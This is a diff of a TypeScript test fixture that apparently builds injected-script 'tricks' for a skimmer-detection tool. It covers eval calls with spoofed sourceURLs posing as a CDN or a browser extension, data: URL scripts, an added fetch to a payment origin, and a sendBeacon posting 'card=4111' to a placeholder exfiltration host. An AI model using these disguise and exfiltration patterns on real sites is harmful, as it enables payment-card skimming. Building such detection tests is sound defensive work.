@@ -177,7 +177,7 @@ const tricks = (o: Origins) => `
 eval('window.__a = 1; /*eval-marker*/');
 var s = document.createElement('script'); s.textContent = 'window.__b = 2; /*injected-inline-marker*/'; document.head.appendChild(s);
 eval('window.__c = 3; /*disguised-marker*/\\n//# sourceURL=https://cdn.trusted.test/jquery.min.js');
-eval('window.__e = 5; /*extension-marker*/\\n//# sourceURL=chrome-extension://abcdefghijklmnop/skim.js');
+eval('window.__e = 5; fetch("${o.psp}/v3/ext.json", { mode: "no-cors" }); /*extension-marker*/\\n//# sourceURL=chrome-extension://abcdefghijklmnop/skim.js');
 var d = document.createElement('script'); d.src = 'data:text/javascript,window.__d%3D4%3B%2F*data-marker*%2F'; document.head.appendChild(d);
 debugger;
 navigator.sendBeacon('${o.exfil}/b', 'card=4111');
